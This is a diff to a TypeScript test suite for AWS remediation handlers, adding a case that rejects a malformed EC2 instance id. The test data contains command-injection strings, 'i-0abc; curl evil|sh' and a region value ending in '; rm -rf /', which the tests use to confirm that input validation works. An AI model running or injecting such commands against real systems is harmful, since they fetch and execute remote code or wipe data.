@@ -174,6 +174,13 @@ describe('Remediations: account and region checked at the door', () => {
     sns.on(PublishCommand).resolves({ MessageId: 'm-1' });
   });
 
+  it('refuses a finding whose instance id is not one (it would go into calls, tags and commands)', async () => {
+    const event = structuredClone(fixtureFindings().find((f) => f.file.endsWith('port-probe-22.json'))!.event) as { detail: Record<string, any> };
+    event.detail.resource.instanceDetails.instanceId = 'i-0abc; curl evil|sh';
+    await expect(createRevokeSshHandler(remediationDependencies('revoke-ssh-ingress').dependencies)(event)).rejects.toThrow(/is not an EC2 instance id/);
+    expect(ec2.calls()).toHaveLength(0);
+  });
+
   it.each([
     ['region', 'eu-west-1; rm -rf /', /the finding's region "eu-west-1; rm -rf \/" is not an AWS region name/],
     ['region', '', /region/],
